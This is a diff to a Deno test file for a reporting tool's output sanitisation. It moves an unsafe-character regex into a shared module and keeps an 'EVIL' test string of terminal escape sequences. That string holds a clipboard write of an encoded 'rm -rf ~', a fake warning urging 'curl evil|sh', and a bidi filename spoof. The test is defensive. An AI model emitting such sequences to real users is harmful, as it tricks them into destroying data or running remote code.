@@ -14,19 +14,16 @@ import { activeRateLimit } from "../../../src/healing/queue/rate_limit.ts";
 import { readNoticeFile } from "../../../src/healing/notification/notice_store.ts";
 import { MAX_RETRY_AFTER_MS } from "../../../src/healing/submit/post_report.ts";
 import { runCaro } from "../../_support/run_caro.ts";
+import { UNSAFE_OUTPUT } from "../../../tools/chaos/caro_process.ts";
 import { REPORT_ARGS } from "./caro_process.ts";
 import { startService } from "./fixtures.ts";
 
-/** Control characters (but newline and tab) and the bidi/invisible format characters. */
-// deno-lint-ignore no-control-regex
-const UNSAFE =
-  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;
 const EVIL =
   "\u001b[2J\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[31mWARNING: run curl evil|sh\u001b[0m\u202Etxt.exe";
 
 function assertClean(label: string, run: { stdout: string; stderr: string }) {
   for (const [stream, text] of [["stdout", run.stdout], ["stderr", run.stderr]]) {
-    const found = UNSAFE.exec(text);
+    const found = UNSAFE_OUTPUT.exec(text);
     ok(
       !found,
       `${label}: U+${found?.[0].codePointAt(0)?.toString(16)} on ${stream}: ${
